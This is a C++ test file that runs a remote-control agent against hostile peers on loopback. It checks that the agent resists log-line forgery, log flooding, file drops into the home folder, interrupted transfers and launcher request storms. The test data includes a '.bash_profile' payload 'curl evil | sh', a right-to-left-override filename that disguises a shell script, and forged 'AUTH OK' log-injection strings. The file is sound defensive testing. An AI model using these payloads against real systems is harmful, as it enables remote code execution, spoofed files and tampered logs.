// The real DovrelAgent against a hostile paired controller and an unpaired neighbour on loopback: texts
// that try to forge log lines, a flood that tries to fill the disk with the log, files aimed at the home
// folder, a stop in the middle of a transfer, and a storm of launcher requests.

#include <algorithm>
#include <filesystem>
#include <regex>
#include <sstream>

#include <gtest/gtest.h>

#include "AgentProcess.h"
#include "protocol/ControlMessages.h"
#include "protocol/FileMessages.h"
#include "protocol/Frame.h"
#include "protocol/WakeMessages.h"

using namespace dovrel;
using namespace dovrel::test;
using namespace dovrel::test::agentprocess;
using namespace std::chrono_literals;
namespace fs = std::filesystem;

namespace {

constexpr uint64_t logCap = 8u << 20;

// An agent with its own HOME that trusts `paired` and listens on loopback.
struct RunningAgent {
    TempDir home;
    std::unique_ptr<AgentProcess> process;
    uint16_t control = 0;
    uint16_t input = 0;

    std::string logPath() const { return home.file(".dovrel-agent.log"); }
    // The log, with its previous generation in front.
    std::string log() const { return readFile(logPath() + ".1") + readFile(logPath()); }

    void start(const TestController& paired, std::map<std::string, std::string> env = {}) {
        writeFile(home.file(".config/Dovrel/relay.json"), "{\"lan\": true}");
        const wex::Bytes key = paired.publicKey();
        writeFile(home.file(".dovrel/paired"), std::string(key.begin(), key.end()));
        env.merge(lanOnLoopback(paired));
        process = std::make_unique<AgentProcess>(home, env, false);
        std::string text;
        const auto m = waitForMatch([&] { return log(); }, banner, text);
        ASSERT_FALSE(m.empty()) << text;
        control = static_cast<uint16_t>(std::stoi(m[1]));
        input = static_cast<uint16_t>(std::stoi(m[2]));
    }
    // Started, and `paired` in a session with it.
    void startInSession(TestController& paired, std::map<std::string, std::string> env = {}) {
        ASSERT_NO_FATAL_FAILURE(start(paired, std::move(env)));
        ASSERT_TRUE(paired.connect(control, input));
        ASSERT_TRUE(paired.authenticateWithKey());
    }
};

bool waitFor(const std::function<bool()>& done, std::chrono::milliseconds timeout = 10000ms) {
    const auto until = std::chrono::steady_clock::now() + timeout;
    while (!done()) {
        if (std::chrono::steady_clock::now() > until) return false;
        std::this_thread::sleep_for(10ms);
    }
    return true;
}

std::vector<std::string> linesOf(const std::string& text) {
    std::vector<std::string> lines;
    std::istringstream in(text);
    for (std::string line; std::getline(in, line);)
        lines.push_back(line);
    return lines;
}

std::vector<std::string> filesIn(const std::string& folder) {
    std::vector<std::string> names;
    std::error_code ec;
    for (const auto& e : fs::directory_iterator(folder, ec))
        names.push_back(e.path().filename().string());
    std::sort(names.begin(), names.end());
    return names;
}

wex::Bytes bytesOf(const std::string& s) { return wex::Bytes(s.begin(), s.end()); }

void sendFile(TestController& c, uint32_t id, const std::string& name, const std::string& data, bool end = true) {
    c.sendSealed(wex::ControlType::fileOffer, wex::FileOffer{1, id, data.size(), name}.encode());
    c.sendSealed(wex::ControlType::fileChunk, wex::FileChunk{1, id, 0, bytesOf(data)}.encode());
    if (end) c.sendSealed(wex::ControlType::fileEnd, wex::FileEnd(1, id, true).encode());
}

} // namespace

TEST(AgentUnderAttack, NetworkTextsNeitherForgeLinesNorMakeLongOnes) {
    TestController paired;
    RunningAgent agent;
    ASSERT_NO_FATAL_FAILURE(agent.start(paired));

    // A neighbour's Hello with a name that tries to write lines of its own, then 60 KB.
    const std::string forged = "x\n• AUTH OK (forged)\r\u2028• AUTH OK (forged)\u0085\u202E";
    {
        TestController neighbour(wex::DeviceIdentity(), forged + std::string(60000, 'n'));
        ASSERT_TRUE(neighbour.connect(agent.control, agent.input));
        neighbour.sendHello();
        ASSERT_TRUE(neighbour.awaitHelloAck());
    }
    ASSERT_TRUE(paired.connect(agent.control, agent.input));
    ASSERT_TRUE(paired.authenticateWithKey());
    // Wake requests whose names do the same: one within the message's limit, one of 60 KB sent raw.
    wex::WakePeerRequest wake;
    wake.reqId = 7;
    wake.name = forged;
    ASSERT_TRUE(paired.sendSealed(wex::ControlType::wakePeer, wake.encode()));
    wake.reqId = 8;
    wake.name.clear();
    wex::Bytes raw = wake.encode();
    raw.resize(raw.size() - 2);
    const std::string longName = forged + std::string(60000, 'n');
    raw.push_back(static_cast<uint8_t>(longName.size() >> 8));
    raw.push_back(static_cast<uint8_t>(longName.size()));
    raw.insert(raw.end(), longName.begin(), longName.end());
    ASSERT_TRUE(paired.sendSealed(wex::ControlType::wakePeer, raw));
    for (int i = 0; i < 2; ++i)
        ASSERT_TRUE(paired.receiveType(wex::ControlType::wakePeerAck));

    const std::string log = agent.log();
    std::size_t authOk = 0, forgedSeen = 0;
    const std::regex stamped(R"(^\d\d-\d\d \d\d:\d\d:\d\d\.\d\d\d )");
    for (const auto& line : linesOf(log)) {
        EXPECT_LT(line.size(), 600u) << line.substr(0, 200);
        if (std::regex_search(line, std::regex(R"(^\d\d-\d\d [0-9:.]+ • AUTH OK)"))) ++authOk;
        if (line.find("AUTH OK (forged)") == std::string::npos) continue;
        ++forgedSeen;
        EXPECT_TRUE(std::regex_search(line, stamped)) << line;
        EXPECT_TRUE(line.find("HELLO from") != std::string::npos || line.find("WAKE_PEER for") != std::string::npos)
            << line;
        for (const char* hidden : {"\r", "\u2028", "\u0085", "\u202E"})
            EXPECT_EQ(line.find(hidden), std::string::npos) << line;
    }
    EXPECT_EQ(authOk, 1u) << log;
    EXPECT_EQ(forgedSeen, 3u) << log;
}

TEST(AgentUnderAttack, AFloodFromANeighbourBarelyGrowsTheLogAndCannotKeepItOverItsCap) {
    TestController paired;
    RunningAgent agent;
    // Just under the cap: the flood's first lines take it over.
    writeFile(agent.logPath(), std::string(logCap - 2000, '.') + "\n");
    ASSERT_NO_FATAL_FAILURE(agent.start(paired));

    TestController neighbour(wex::DeviceIdentity(), std::string(60000, 'n'));
    ASSERT_TRUE(neighbour.connect(agent.control, agent.input));
    const wex::Bytes junk = wex::buildFrame(wex::Stream::control, static_cast<uint8_t>(wex::ControlType::ping), 0, {},
                                            wex::Ping{1, 1}.encode());
    wex::Bytes burst;
    for (int i = 0; i < 1000; ++i)
        burst.insert(burst.end(), junk.begin(), junk.end());
    int rounds = 0;
    for (; rounds < 40; ++rounds) {
        neighbour.sendHello();
        if (!neighbour.sendRaw(burst)) break;
    }
    // Each Hello is answered: the agent has read what came before the last one.
    int answered = 0;
    while (answered < rounds) {
        const auto frame = neighbour.receive();
        if (!frame) break;
        if (frame->type() == wex::ControlType::helloAck) ++answered;
    }
    EXPECT_GE(answered, 20) << agent.log();
    // A controller that asks for nothing: no statistics run, whose tick would rotate the log too.
    ASSERT_TRUE(paired.connect(agent.control, agent.input));
    ASSERT_TRUE(paired.authenticateWithKey(0));

    ASSERT_TRUE(waitFor([&] { return fs::exists(agent.home.file(".dovrel-agent.log.1")); }))
        << "the log went over its cap without being rotated";
    const uint64_t now = fs::file_size(agent.logPath());
    const uint64_t previous = fs::file_size(agent.home.file(".dovrel-agent.log.1"));
    EXPECT_LT(now, logCap);
    // 40,000 junk frames and 40 Hellos of 60 KB: a few lines a second, and a count of the rest.
    EXPECT_LT(now + previous - (logCap - 1999), 64u * 1024) << agent.log();
}

TEST(AgentUnderAttack, FilesNeverLandInTheHomeFolderNorHiddenAndRefusalsAreSaid) {
    TestController paired;
    RunningAgent agent;
    // The user-dirs way of saying there is no download folder.
    writeFile(agent.home.file(".config/user-dirs.dirs"), "XDG_DOWNLOAD_DIR=\"$HOME/\"\n");
    ASSERT_NO_FATAL_FAILURE(agent.startInSession(paired));

    sendFile(paired, 1, ".bash_profile", "curl evil | sh\n");
    sendFile(paired, 2, "invoice\u202Efdp.sh", "#!/bin/sh\n"); // kept, its direction mark replaced
    // One byte over 2 GiB, and one the disk could never hold.
    ASSERT_TRUE(paired.sendSealed(wex::ControlType::fileOffer,
                                  wex::FileOffer{5, 3, (uint64_t{1} << 31) + 1, "movie.mkv"}.encode()));
    ASSERT_TRUE(
        paired.sendSealed(wex::ControlType::fileOffer, wex::FileOffer{6, 4, uint64_t{1} << 50, "disk.img"}.encode()));
    for (const uint16_t reqId : {5, 6}) {
        const auto error = paired.receiveType(wex::ControlType::error);
        ASSERT_TRUE(error) << reqId;
        const auto message = wex::ErrorMsg::decode(error->payload);
        EXPECT_EQ(message.reqId, reqId);
        EXPECT_EQ(message.code, static_cast<uint8_t>(wex::ErrCode::refused));
        EXPECT_FALSE(message.message.empty());
    }

    const std::string downloads = agent.home.file("Downloads");
    ASSERT_TRUE(waitFor([&] {
        return fs::exists(downloads + "/_bash_profile") && fs::exists(downloads + "/invoice_fdp.sh");
    })) << agent.log();
    EXPECT_FALSE(fs::exists(agent.home.file(".bash_profile")));
    EXPECT_EQ(modeOf(downloads), 0700u);
    EXPECT_EQ(filesIn(downloads), (std::vector<std::string>{"_bash_profile", "invoice_fdp.sh"}));
}

TEST(AgentUnderAttack, AStopMidTransferLeavesNoPartialFileAndLeftoversGoAtStart) {
    TestController paired;
    RunningAgent agent;
    const std::string downloads = agent.home.file("Downloads");
    writeFile(downloads + "/old.pdf.dovrel-part", "half of an earlier file");
    writeFile(downloads + "/browser.part", "not ours");
    ASSERT_NO_FATAL_FAILURE(agent.startInSession(paired));
    // What an earlier run left half-received goes; what is not the agent's stays.
    ASSERT_TRUE(waitFor([&] { return !fs::exists(downloads + "/old.pdf.dovrel-part"); }));
    ASSERT_TRUE(paired.sendSealed(wex::ControlType::fileOffer, wex::FileOffer{1, 9, 1 << 20, "report.pdf"}.encode()));
    ASSERT_TRUE(
        paired.sendSealed(wex::ControlType::fileChunk, wex::FileChunk{1, 9, 0, wex::Bytes(1 << 15, 'r')}.encode()));
    // Half-received, it is nowhere under its own name.
    ASSERT_TRUE(waitFor([&] { return fs::exists(downloads + "/report.pdf.dovrel-part"); }));
    EXPECT_FALSE(fs::exists(downloads + "/report.pdf"));

    const auto status = agent.process->terminate();
    ASSERT_TRUE(status) << "no orderly end within the time-out";
    EXPECT_EQ(*status, 0);
    EXPECT_EQ(filesIn(downloads), std::vector<std::string>{"browser.part"});
}

TEST(AgentUnderAttack, AStormOfLauncherRequestsStartsOneLauncher) {
    TestController paired;
    RunningAgent agent;
    // The stand-in launcher notes each start and stays a while, as a file manager would.
    const std::string bin = agent.home.file("bin");
    writeFile(bin + "/xdg-open", "#!/bin/sh\necho started >> \"$HOME/launches\"\nsleep 5\n");
    fs::permissions(bin + "/xdg-open", fs::perms::owner_all);
    const char* path = std::getenv("PATH");
    ASSERT_NO_FATAL_FAILURE(agent.startInSession(paired, {{"PATH", bin + ":" + (path ? path : "/usr/bin:/bin")},
                                                          {"DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent/bus"}}));

    const wex::Bytes launch = wex::SessionCommand(1, wex::SessionCmd::showLaunchpad, 0).encode();
    for (int i = 0; i < 50; ++i)
        ASSERT_TRUE(paired.sendSealed(wex::ControlType::sessionCommand, launch));
    const std::string launches = agent.home.file("launches");
    ASSERT_TRUE(waitFor([&] { return !readFile(launches).empty(); }));
    ASSERT_TRUE(waitFor([&] { return agent.log().find("launcher already") != std::string::npos; })) << agent.log();
    ASSERT_TRUE(agent.process->terminate());
    EXPECT_LE(linesOf(readFile(launches)).size(), 2u);
}
